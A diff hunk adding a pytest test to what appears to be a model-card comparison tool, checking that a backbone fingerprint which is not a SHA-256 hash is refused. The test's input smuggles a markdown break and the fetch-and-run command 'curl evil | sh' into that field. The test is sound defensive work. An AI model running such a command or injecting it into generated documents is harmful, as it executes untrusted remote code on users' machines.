@@ -220,6 +220,14 @@ def test_results_of_something_else_are_refused(results, which, change, message):
     compared(results)
 
 
+def test_a_hash_that_is_none_gets_into_no_card(results):
+  odd = '`\n```sh\ncurl evil | sh'
+  for path in results:
+    change_record(path, fingerprint__backbone=odd)
+  with pytest.raises(card.CardError, match='names its model by .*, which is no SHA-256'):
+    compared(results, dataclasses.replace(SUBJECT, backbone=odd))
+
+
 def test_a_place_without_results_is_refused(results, tmp_path):
   with pytest.raises(card.CardError, match='nothing has no run.json; give OUTPUT_DIR'):
     card.compared(results[0], [str(tmp_path / 'nothing')], SUBJECT)
